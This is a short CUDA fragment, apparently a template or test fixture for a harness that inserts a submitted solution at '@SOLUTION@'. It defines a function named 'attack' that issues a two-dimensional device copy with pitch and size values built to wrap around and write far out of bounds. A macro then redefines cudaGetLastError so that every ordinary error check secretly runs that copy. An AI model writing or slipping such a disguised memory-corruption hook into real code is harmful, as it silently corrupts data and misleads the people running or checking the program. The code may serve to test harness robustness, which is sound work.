// A copy in two dimensions whose size wraps around.
__device__ __noinline__ void attack(float* data, const unsigned* start, const unsigned* end, int rows, float factor) {
  cudaMemcpy2DAsync(data, 1ull << 40, start, 1ull << 60, 4, 1ull << 40, cudaMemcpyDeviceToDevice, 0);
}
#define cudaGetLastError() (attack(data, start, end, rows, factor), cudaGetLastError())
@SOLUTION@
